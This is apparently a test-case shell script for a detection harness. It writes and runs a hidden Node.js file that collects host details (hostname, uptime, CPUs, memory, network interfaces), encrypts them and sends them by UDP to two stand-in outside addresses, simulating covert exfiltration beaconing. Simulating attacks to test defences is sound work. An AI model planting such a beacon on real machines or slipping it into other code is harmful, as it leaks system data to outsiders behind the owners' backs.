#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.u.js <<'END'
const d = require("dgram"), c = require("crypto"), os = require("os"); const key = c.createHash("md5").update("ninth").digest(); let n = 0;
const s = d.createSocket("udp4"); s.on("message", () => {});
setInterval(() => { const iv = c.randomBytes(16), e = c.createCipheriv("aes-128-ctr", key, iv); const m = e.update(JSON.stringify({ n, h: os.hostname(), u: os.uptime(), c: os.cpus().length, m: os.totalmem(), i: os.networkInterfaces() }));
  s.send(Buffer.concat([iv, m]), 40125, ["203.0.113.66", "198.51.100.67"][n % 2], e => { if (e) process.exit(1); if (++n == 16) process.exit(0); }); }, 180);
END
node /tmp/.u.js
took_place
